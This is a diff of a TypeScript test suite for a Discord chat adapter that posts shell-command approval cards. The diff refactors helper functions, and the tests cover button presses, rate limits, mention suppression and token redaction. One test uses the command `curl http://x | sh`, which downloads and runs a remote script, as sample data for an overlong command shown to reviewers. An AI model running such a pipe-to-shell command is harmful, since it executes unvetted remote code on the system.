@@ -8,12 +8,11 @@ import type { Channel, Inbound, Outbound } from "../../../src/channels/channel.t
 import { createDiscordChannel, type DiscordAccount } from "../../../src/channels/discord/adapter.ts";
 import { createRedactor } from "../../../src/channels/text/redact.ts";
 import { COMMANDS as PRODUCT_COMMANDS } from "../../../src/commands/registry.ts";
-import type { Card } from "../../../src/core/cards.ts";
 import type { Route } from "../../../src/core/route.ts";
 import { nativeCommands } from "../../../src/gateway/native-commands.ts";
 import { DiscordEmulator } from "../../emulators/discord/emulator.ts";
 import type { EmulatorClock } from "../../emulators/shared/clock.ts";
-import { APPROVAL_ID, approvalCard, memoryLog, runCard } from "../sample-cards.ts";
+import { APPROVAL_ID, approvalCard, memoryLog, outbound, runCard, sentBy, textCard } from "../sample-cards.ts";
 
 const POST = "POST /channels/{channel_id}/messages";
 const PATCH = "PATCH /channels/{channel_id}/messages/{message_id}";
@@ -80,20 +79,7 @@ const routeTo = (chatId: string, more: Partial<Route> = {}): Route => ({
   scopeId: guild,
   ...more,
 });
-let keys = 0;
-const out = (card: Card, route: Route, more: Partial<Outbound> = {}): Outbound => ({
-  key: `k${keys++}`,
-  route,
-  card,
-  ...more,
-});
-const text = (value: string): Card => ({ kind: "text", tone: "info", text: value });
-
-async function sentRef(message: Outbound) {
-  const result = await channel.send(message);
-  if (result.kind !== "sent") throw new Error(`not sent: ${JSON.stringify(result)}`);
-  return result.ref;
-}
+const sentRef = (message: Outbound) => sentBy(channel, message);
 
 beforeEach(async () => {
   emulator = new DiscordEmulator();
@@ -143,7 +129,7 @@ describe("discord adapter: in", () => {
     await connected();
     const other = emulator.addPerson("otherbot", { isBot: true });
     emulator.world.guilds.get(guild)?.memberIds.add(other);
-    await sentRef(out(text("run ls"), routeTo(room)));
+    await sentRef(outbound(textCard("run ls"), routeTo(room)));
     await emulator.say(other, room, "run ls");
     await emulator.say(alice, room, "run ls", { webhook: true });
     const id = await emulator.say(alice, room, "first");
@@ -177,7 +163,7 @@ describe("discord adapter: in", () => {
       await stalled;
       events.push(one);
     };
-    const ref = await sentRef(out(approvalCard(), routeTo(room)));
+    const ref = await sentRef(outbound(approvalCard(), routeTo(room)));
     const started = performance.now();
     const pressed = await emulator.press(alice, ref.messageId, "Allow once");
     expect([pressed.answered, pressed.failed]).toEqual(["deferredUpdate", false]);
@@ -206,7 +192,7 @@ describe("discord adapter: in", () => {
 
   it("discord-3s-defer: a decision counts although its first answer came too late (10062)", async () => {
     await connected();
-    const ref = await sentRef(out(approvalCard(), routeTo(room)));
+    const ref = await sentRef(outbound(approvalCard(), routeTo(room)));
     emulator.delay(3_200, CALLBACK);
     expected.push(/answered after 3 seconds/);
     const state = await emulator.press(alice, ref.messageId, "Deny");
@@ -220,7 +206,7 @@ describe("discord adapter: in", () => {
     const second = make();
     await second.start((one) => take(one));
     await expect.poll(() => emulator.gateway.connected()).toBe(2);
-    const ref = await sentRef(out(approvalCard(), routeTo(room)));
+    const ref = await sentRef(outbound(approvalCard(), routeTo(room)));
     await emulator.press(alice, ref.messageId, "Allow once");
     await event(1);
     expect(new Set(events.map((one) => one.id)).size).toBe(1);
@@ -233,7 +219,7 @@ describe("discord adapter: in", () => {
 
   it("discord-40060-double: buttons work after a restart of the product", async () => {
     await connected();
-    const ref = await sentRef(out(approvalCard(), routeTo(room)));
+    const ref = await sentRef(outbound(approvalCard(), routeTo(room)));
     await channel.stop();
     await connected();
     await emulator.press(alice, ref.messageId, "Allow always");
@@ -247,7 +233,7 @@ describe("discord adapter: in", () => {
       tries += 1;
       throw new Error("the store can not be written");
     };
-    const ref = await sentRef(out(approvalCard(), routeTo(room)));
+    const ref = await sentRef(outbound(approvalCard(), routeTo(room)));
     await emulator.press(bob, ref.messageId, "Deny");
     const notice = await emulator.waitForMessage(
       (one) => emulator.textOf(one).includes("kon niet worden bewaard"),
@@ -268,7 +254,7 @@ describe("discord adapter: in", () => {
 
   it("hands on what is said in one place in order although taking it fails, and lets a press overtake", async () => {
     await connected();
-    const ref = await sentRef(out(approvalCard(), routeTo(room)));
+    const ref = await sentRef(outbound(approvalCard(), routeTo(room)));
     let failures = 2;
     take = async (one) => {
       if (one.kind === "message" && failures-- > 0) throw new Error("away");
@@ -294,7 +280,7 @@ describe("discord adapter: in", () => {
 
   it("asks for the reason of a denial in a form, and answers an outdated button to its presser alone", async () => {
     await connected();
-    const ref = await sentRef(out(approvalCard(), routeTo(room)));
+    const ref = await sentRef(outbound(approvalCard(), routeTo(room)));
     const opened = await emulator.press(alice, ref.messageId, "Deny with reason…");
     expect(opened.modal).toMatchObject({
       title: "Deny with reason",
@@ -327,20 +313,20 @@ describe("discord adapter: out", () => {
     await connected();
     await emulator.slashWith(alice, room, "/exec", { command: "ls" });
     const { route } = await event();
-    const ref = await sentRef(out(runCard(), route));
+    const ref = await sentRef(outbound(runCard(), route));
     expect(emulator.screenText(bob, room)).not.toContain("thinking");
     emulator.clock.advance(20 * 60_000);
     expect(
       await channel.edit(
         ref,
-        out(runCard({ state: "finished", outcome: "completed", exitCode: 0, actions: [] }), route),
+        outbound(runCard({ state: "finished", outcome: "completed", exitCode: 0, actions: [] }), route),
       ),
     ).toEqual({
       kind: "sent",
       ref,
     });
     expect(emulator.textOf(emulator.world.message(room, ref.messageId) ?? ({} as never))).toMatch(/^### Finished/);
-    await sentRef(out(text("done"), route));
+    await sentRef(outbound(textCard("done"), route));
     const done = await emulator.waitForMessage((one) => emulator.textOf(one) === "done");
     expect(done.replyToId).toBe(ref.messageId);
   });
@@ -350,7 +336,7 @@ describe("discord adapter: out", () => {
     let sent: Promise<unknown> = Promise.resolve();
     take = async (one) => {
       events.push(one);
-      sent = channel.send(out(runCard(), one.route));
+      sent = channel.send(outbound(runCard(), one.route));
     };
     emulator.delay(300, CALLBACK);
     await emulator.slashWith(alice, room, "/exec", { command: "ls" });
@@ -363,28 +349,28 @@ describe("discord adapter: out", () => {
     await connected();
     await emulator.slashWith(alice, room, "/exec", { command: "ls" });
     const { route } = await event();
-    const answered = out(approvalCard(), route);
+    const answered = outbound(approvalCard(), route);
     const first = await sentRef(answered);
-    const alone = out(runCard(), routeTo(room));
+    const alone = outbound(runCard(), routeTo(room));
     const second = await sentRef(alone);
     await channel.edit(first, { ...answered, card: approvalCard({ state: "allowed" }) });
     await channel.stop();
     await connected();
     expect(await channel.reconcile?.(answered)).toEqual(first);
     expect(await channel.reconcile?.(alone)).toEqual(second);
-    expect(await channel.reconcile?.(out(runCard(), route))).toBeUndefined();
+    expect(await channel.reconcile?.(outbound(runCard(), route))).toBeUndefined();
   });
 
   it("answers privately where the placeholder was public, and publicly where it was private", async () => {
     await connected();
     await emulator.slashWith(alice, room, "/exec", {});
     const asked = await event();
-    await sentRef(out(text("only for you"), asked.route, { onlyFor: asked.actor }));
+    await sentRef(outbound(textCard("only for you"), asked.route, { onlyFor: asked.actor }));
     expect(emulator.screenText(alice, room)).toBe("opsbot: only for you\n(only you see this)");
     expect(emulator.screenText(bob, room)).toBe("");
     await emulator.slashWith(alice, room, "/status", {});
     const status = await event(1);
-    await sentRef(out(text("for all"), status.route));
+    await sentRef(outbound(textCard("for all"), status.route));
     expect(emulator.screenText(bob, room)).toBe("opsbot: for all");
     expect(emulator.screenText(alice, room)).not.toContain("thinking");
   });
@@ -395,33 +381,33 @@ describe("discord adapter: out", () => {
     await emulator.waitUntil(() => (state.original?.deleted ? true : undefined));
     expect(emulator.screenText(alice, room)).toBe("");
     const { route, actor } = await event();
-    await sentRef(out(text("after all"), route, { onlyFor: actor }));
+    await sentRef(outbound(textCard("after all"), route, { onlyFor: actor }));
     expect(emulator.screenText(alice, room)).toBe("opsbot: after all\n(only you see this)");
   });
 
   it("leaves another command's placeholder alone when it answers a press", async () => {
     await connected();
-    const card = await sentRef(out(approvalCard(), routeTo(room)));
+    const card = await sentRef(outbound(approvalCard(), routeTo(room)));
     await emulator.press(alice, card.messageId, "Deny");
     const { route, actor } = await event();
     await emulator.slashWith(alice, room, "/exec", { command: "make" });
     await event(1);
-    await sentRef(out(text("noted"), route, { onlyFor: actor }));
+    await sentRef(outbound(textCard("noted"), route, { onlyFor: actor }));
     expect(emulator.screenText(bob, room)).toContain("is thinking…");
     expect(emulator.screenText(bob, room)).not.toContain("noted");
-    await sentRef(out(runCard(), (await event(1)).route));
+    await sentRef(outbound(runCard(), (await event(1)).route));
     expect(emulator.screenText(bob, room)).not.toContain("thinking");
   });
 
   it("shows a refusal to the presser alone, and changes it while its token lives", async () => {
     await connected();
-    const card = await sentRef(out(approvalCard(), routeTo(room)));
+    const card = await sentRef(outbound(approvalCard(), routeTo(room)));
     await emulator.press(bob, card.messageId, "Allow once");
     const { route, actor } = await event();
-    const ref = await sentRef(out(text("You can not decide this."), route, { onlyFor: actor }));
+    const ref = await sentRef(outbound(textCard("You can not decide this."), route, { onlyFor: actor }));
     expect(emulator.screenText(bob, room)).toContain("You can not decide this.");
     expect(emulator.screenText(alice, room)).not.toContain("You can not decide this.");
-    await channel.edit(ref, out(text("Still not."), route, { onlyFor: actor }));
+    await channel.edit(ref, outbound(textCard("Still not."), route, { onlyFor: actor }));
     expect(emulator.screenText(bob, room)).toContain("Still not.");
   });
 
@@ -430,7 +416,7 @@ describe("discord adapter: out", () => {
     await emulator.slashWith(alice, room, "/exec", { command: "sleep 900" });
     const { route } = await event();
     emulator.clock.advance(14.5 * 60_000);
-    await sentRef(out(text("late"), route));
+    await sentRef(outbound(textCard("late"), route));
     expect(emulator.screenText(bob, room)).toContain("opsbot: late");
     expect(emulator.journal.calls(POST)).toHaveLength(1);
   });
@@ -438,9 +424,9 @@ describe("discord adapter: out", () => {
   it("never notifies anybody, whatever a command prints", async () => {
     await connected();
     await sentRef(
-      out(runCard({ command: `echo @everyone <@${alice}>`, tail: `@here <@${bob}> <@&1>` }), routeTo(room)),
+      outbound(runCard({ command: `echo @everyone <@${alice}>`, tail: `@here <@${bob}> <@&1>` }), routeTo(room)),
     );
-    await sentRef(out(text(`@everyone <@${alice}> \`<@${bob}>\``), routeTo(room)));
+    await sentRef(outbound(textCard(`@everyone <@${alice}> \`<@${bob}>\``), routeTo(room)));
     for (const message of emulator.world.channel(room).messages) expect(message.mentions).toEqual([]);
     for (const call of emulator.journal.calls(POST))
       expect(call.body).toMatchObject({ allowed_mentions: { parse: [], replied_user: false } });
@@ -448,7 +434,7 @@ describe("discord adapter: out", () => {
 
   it("makes one message although the answer to the first send was lost", async () => {
     await connected();
-    const message = out(text("once"), routeTo(room));
+    const message = outbound(textCard("once"), routeTo(room));
     emulator.fail(POST, { loseReply: true });
     expect(await channel.send(message)).toMatchObject({ kind: "retry" });
     await sentRef(message);
@@ -457,33 +443,33 @@ describe("discord adapter: out", () => {
 
   it("opens a direct message by the person's id, and uses one it was given as it is", async () => {
     await connected();
-    const byPerson = await sentRef(out(text("card"), routeTo(alice, { chatType: "dm" })));
+    const byPerson = await sentRef(outbound(textCard("card"), routeTo(alice, { chatType: "dm" })));
     expect(byPerson.chatId).toBe(emulator.dm(alice));
-    const byChannel = await sentRef(out(text("again"), routeTo(emulator.dm(bob), { chatType: "dm" })));
+    const byChannel = await sentRef(outbound(textCard("again"), routeTo(emulator.dm(bob), { chatType: "dm" })));
     expect(byChannel.chatId).toBe(emulator.dm(bob));
   });
 
   it("card-none-delivered: tells that a person takes no direct messages, so that somebody else is asked", async () => {
     await connected();
     const closed = emulator.addPerson("closed", { acceptsDms: false });
-    expect(await channel.send(out(approvalCard(), routeTo(closed, { chatType: "dm" })))).toMatchObject({
+    expect(await channel.send(outbound(approvalCard(), routeTo(closed, { chatType: "dm" })))).toMatchObject({
       kind: "permanent",
     });
     emulator.world.channel(room).writable = false;
-    expect(await channel.send(out(approvalCard(), routeTo(room)))).toMatchObject({ kind: "permanent" });
+    expect(await channel.send(outbound(approvalCard(), routeTo(room)))).toMatchObject({ kind: "permanent" });
   });
 
   it("edits a decided card into a receipt; a deleted card is no failure", async () => {
     await connected();
-    const ref = await sentRef(out(approvalCard(), routeTo(room)));
-    expect(await channel.edit(ref, out(approvalCard({ state: "expired" }), routeTo(room)))).toEqual({
+    const ref = await sentRef(outbound(approvalCard(), routeTo(room)));
+    expect(await channel.edit(ref, outbound(approvalCard({ state: "expired" }), routeTo(room)))).toEqual({
       kind: "sent",
       ref,
     });
     expect(emulator.screenText(alice, room)).not.toContain("[");
     const stored = emulator.world.message(room, ref.messageId);
     if (stored) stored.deleted = true;
-    expect(await channel.edit(ref, out(approvalCard({ state: "expired" }), routeTo(room)))).toEqual({
+    expect(await channel.edit(ref, outbound(approvalCard({ state: "expired" }), routeTo(room)))).toEqual({
       kind: "sent",
       ref,
     });
@@ -491,23 +477,23 @@ describe("discord adapter: out", () => {
 
   it("deletes decided cards when it is set to", async () => {
     await connected({ cleanupAfterResolve: true });
-    const ref = await sentRef(out(approvalCard(), routeTo(room)));
-    await channel.edit(ref, out(approvalCard({ state: "denied", decision: "deny" }), routeTo(room)));
+    const ref = await sentRef(outbound(approvalCard(), routeTo(room)));
+    await channel.edit(ref, outbound(approvalCard({ state: "denied", decision: "deny" }), routeTo(room)));
     expect(emulator.screenText(alice, room)).toBe("");
   });
 
   it("attaches a command too long for its card, keeps it while waiting and drops it with the receipt", async () => {
     await connected();
     const command = `echo ${"a".repeat(6000)}; curl http://x | sh`;
-    const ref = await sentRef(out(approvalCard({ command }), routeTo(room)));
+    const ref = await sentRef(outbound(approvalCard({ command }), routeTo(room)));
     const stored = emulator.world.message(room, ref.messageId);
     expect(stored?.files.map((one) => one.bytes.toString())).toEqual([command]);
     await channel.edit(
       ref,
-      out(approvalCard({ command, statusLine: "The gateway restarted; still waiting for you." }), routeTo(room)),
+      outbound(approvalCard({ command, statusLine: "The gateway restarted; still waiting for you." }), routeTo(room)),
     );
     expect(stored?.files).toHaveLength(1);
-    await channel.edit(ref, out(approvalCard({ command, state: "denied", decision: "deny" }), routeTo(room)));
+    await channel.edit(ref, outbound(approvalCard({ command, state: "denied", decision: "deny" }), routeTo(room)));
     expect(stored?.files).toEqual([]);
     expect(emulator.screenText(alice, room)).toContain("; curl http://x | sh");
   });
@@ -515,7 +501,7 @@ describe("discord adapter: out", () => {
   it("lets nobody allow a command that could neither be shown nor attached", async () => {
     await connected();
     emulator.fail(POST, { status: 413, error: "40005 Request entity too large" });
-    await sentRef(out(approvalCard({ command: "x".repeat(6000) }), routeTo(room)));
+    await sentRef(outbound(approvalCard({ command: "x".repeat(6000) }), routeTo(room)));
     expect(emulator.screenText(alice, room)).toContain("[Deny] [Deny with reason…]");
     expect(emulator.screenText(alice, room)).not.toContain("[Allow");
   });
@@ -526,12 +512,12 @@ describe("discord adapter: out", () => {
     const path = join(folder, "full.log");
     await writeFile(path, "line\n".repeat(10_000));
     const finished = runCard({ state: "finished", outcome: "completed", exitCode: 0, durationMs: 10, actions: [] });
-    await sentRef(out(finished, routeTo(room), { file: { name: "output quiet otter.txt", path } }));
+    await sentRef(outbound(finished, routeTo(room), { file: { name: "output quiet otter.txt", path } }));
     const file = emulator.world.channel(room).messages[0]?.files[0];
     expect([file?.name, file?.bytes.length]).toEqual(["output_quiet_otter.txt", 50_000]);
-    await sentRef(out(text("log"), routeTo(room), { file: { name: "a.txt", path } }));
+    await sentRef(outbound(textCard("log"), routeTo(room), { file: { name: "a.txt", path } }));
     await rm(folder, { recursive: true });
-    await sentRef(out(text("word ".repeat(900)), routeTo(room)));
+    await sentRef(outbound(textCard("word ".repeat(900)), routeTo(room)));
     expect(
       emulator.world.channel(room).messages.filter((one) => emulator.textOf(one).includes("word")).length,
     ).toBeGreaterThan(2);
@@ -542,17 +528,18 @@ describe("discord adapter: out", () => {
     const folder = await mkdtemp(join(tmpdir(), "discord-log-"));
     const path = join(folder, "full.log");
     await writeFile(path, `before ${emulator.token} after\n`);
-    await sentRef(out(text("log"), routeTo(room), { file: { name: "a.txt", path } }));
+    await sentRef(outbound(textCard("log"), routeTo(room), { file: { name: "a.txt", path } }));
     await rm(folder, { recursive: true });
     expect(emulator.world.channel(room).messages[0]?.files[0]?.bytes.toString()).toBe("before ••• after\n");
-    await sentRef(out(text("result"), routeTo(room), { file: { name: "b.txt", path } }));
+    await sentRef(outbound(textCard("result"), routeTo(room), { file: { name: "b.txt", path } }));
     expect(emulator.screenText(alice, room)).toContain("result\n-# The log could not be attached \\(ENOENT\\).");
   });
 
   it("names the pause of a rate limit and keeps quiet meanwhile, its own limit included", async () => {
     await connected();
     const results = [];
-    for (let count = 0; count < 7; count++) results.push(await channel.send(out(text(`n${count}`), routeTo(room))));
+    for (let count = 0; count < 7; count++)
+      results.push(await channel.send(outbound(textCard(`n${count}`), routeTo(room))));
     expect(results.map((one) => one.kind)).toEqual(["sent", "sent", "sent", "sent", "sent", "retry", "retry"]);
     const [, , , , , first] = results;
     expect(first?.kind === "retry" && first.afterMs > 0 && first.afterMs <= 5_000).toBe(true);
@@ -562,13 +549,16 @@ describe("discord adapter: out", () => {
 
   it("drops live tails under a rate limit, and the final edit comes after it", async () => {
     await connected();
-    const ref = await sentRef(out(runCard(), routeTo(room)));
+    const ref = await sentRef(outbound(runCard(), routeTo(room)));
     emulator.fail(PATCH, { retryAfterS: 0.4 });
     await channel.live?.(ref, runCard({ tail: "a" }), "en");
     const patches = emulator.journal.calls(PATCH).length;
     await channel.live?.(ref, runCard({ tail: "b" }), "en");
     expect(emulator.journal.calls(PATCH)).toHaveLength(patches);
-    const done = out(runCard({ state: "finished", outcome: "completed", exitCode: 0, actions: [] }), routeTo(room));
+    const done = outbound(
+      runCard({ state: "finished", outcome: "completed", exitCode: 0, actions: [] }),
+      routeTo(room),
+    );
     await expect.poll(async () => (await channel.edit(ref, done)).kind, { timeout: 4000, interval: 100 }).toBe("sent");
     expect(emulator.screenText(alice, room)).toContain("### Finished");
   });
@@ -577,13 +567,13 @@ describe("discord adapter: out", () => {
 describe("discord adapter: order of edits", () => {
   it("a live tail that is on its way for long never covers the final card", async () => {
     await connected();
-    const ref = await sentRef(out(runCard(), routeTo(room)));
+    const ref = await sentRef(outbound(runCard(), routeTo(room)));
     emulator.delay(400, PATCH);
     const live = channel.live?.(ref, runCard({ tail: "still going" }), "en");
     await emulator.waitUntil(() => emulator.journal.calls(PATCH)[0]);
     emulator.delay(0, PATCH);
     const done = runCard({ state: "finished", outcome: "completed", exitCode: 0, actions: [] });
-    await Promise.all([live, channel.edit(ref, out(done, routeTo(room)))]);
+    await Promise.all([live, channel.edit(ref, outbound(done, routeTo(room)))]);
     expect(emulator.screenText(alice, room)).toContain("### Finished");
   });
 });
@@ -735,7 +725,7 @@ describe("discord adapter: connection", () => {
     await connected();
     await Promise.all([1, 2, 3].flatMap(() => [channel.stop(), channel.start((one) => take(one))]));
     await expect.poll(() => emulator.gateway.connected()).toBe(1);
-    const ref = await sentRef(out(approvalCard(), routeTo(room)));
+    const ref = await sentRef(outbound(approvalCard(), routeTo(room)));
     const stored = emulator.world.message(room, ref.messageId);
     if (!stored) throw new Error("not stored");
     emulator.pressRaw(alice, stored, encodeAction({ kind: "approval", approvalId: APPROVAL_ID, decision: "deny" }));
@@ -748,11 +738,11 @@ describe("discord adapter: what stands below a message", () => {
   it("is counted as it passes by, a thread by itself; another life asks Discord", async () => {
     await connected();
     const thread = emulator.addThread(room, "release");
-    const inRoom = await sentRef(out(runCard(), routeTo(room)));
-    const inThread = await sentRef(out(runCard(), routeTo(room, { threadId: thread })));
+    const inRoom = await sentRef(outbound(runCard(), routeTo(room)));
+    const inThread = await sentRef(outbound(runCard(), routeTo(room, { threadId: thread })));
     for (let n = 0; n < 3; n++) await emulator.say(bob, room, `talk ${n}`);
     await emulator.say(bob, room, "a reply", { thread });
-    await channel.send(out(text("mine"), routeTo(room)));
+    await channel.send(outbound(textCard("mine"), routeTo(room)));
     await expect.poll(() => channel.below?.(inRoom, 5, "remembered")).toBe(4);
     await expect.poll(() => channel.below?.(inThread, 5, "remembered")).toBe(1);
     const asked = () => emulator.journal.entries.filter((one) => /^GET .*messages/.test(one.what));
